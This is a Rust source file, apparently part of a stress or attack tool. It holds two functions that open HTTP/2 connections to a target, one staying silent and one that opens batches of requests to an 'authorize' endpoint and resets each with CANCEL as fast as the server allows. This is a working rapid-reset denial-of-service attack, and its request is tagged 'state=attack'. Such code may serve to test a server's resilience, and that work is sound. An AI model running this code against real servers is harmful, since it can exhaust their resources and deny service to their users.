//! Connections of HTTP/2 that send no request, or requests that they reset.

use std::sync::atomic::Ordering;

use anyhow::Result;
use h2::{Reason, client};
use http::Request;
use tokio::{net::TcpStream, task::yield_now};

use super::Plan;

/// How many requests are opened before they are reset.
const BATCH: u64 = 32;

/// Answers PINGs and settings until the server ends the connection.
pub(super) async fn be_silent(stream: TcpStream) -> Result<()> {
    let (_sender, connection) = client::handshake(stream).await?;
    Ok(connection.await?)
}

/// Opens requests and resets them, as fast as the server accepts them, until it closes the connection.
pub(super) async fn reset(stream: TcpStream, plan: &Plan) -> Result<()> {
    let (mut sender, connection) = client::handshake(stream).await?;
    let connection = tokio::spawn(connection);
    let path = "authorize?response_type=code&client_id=unknown&state=attack";
    let request = Request::get(format!("http://{}/{path}", plan.target)).body(())?;
    let result = loop {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            sender = match sender.ready().await {
                Ok(sender) => sender,
                Err(error) => {
                    connection.abort();
                    return Err(error.into());
                }
            };
            match sender.send_request(request.clone(), true) {
                Ok(opened) => batch.push(opened),
                Err(_) => break,
            }
        }
        if batch.is_empty() {
            break Ok(());
        }
        // A request that was reset before it was sent would not be sent at all.
        yield_now().await;
        for (_response, stream) in &mut batch {
            stream.send_reset(Reason::CANCEL);
            plan.tally.sent.fetch_add(1, Ordering::Relaxed);
        }
        yield_now().await;
    };
    connection.abort();
    result
}
